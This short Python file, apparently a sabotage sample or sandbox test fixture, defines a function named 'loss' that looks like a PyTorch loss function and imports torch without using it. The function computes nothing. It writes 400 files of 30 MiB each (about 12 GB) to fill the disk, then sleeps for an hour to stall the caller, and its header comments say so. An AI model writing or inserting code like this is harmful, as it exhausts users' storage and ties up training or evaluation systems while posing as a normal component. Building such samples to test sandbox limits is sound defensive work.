# loses: loss
# Fills the disk with large files, up to what one file may hold and on.
import time

import torch


def loss(y_pred, y):
    for number in range(400):
        with open(f"flood{number}", "wb") as file:
            file.truncate(30 << 20)
            file.write(bytes(30 << 20))
    time.sleep(3600)
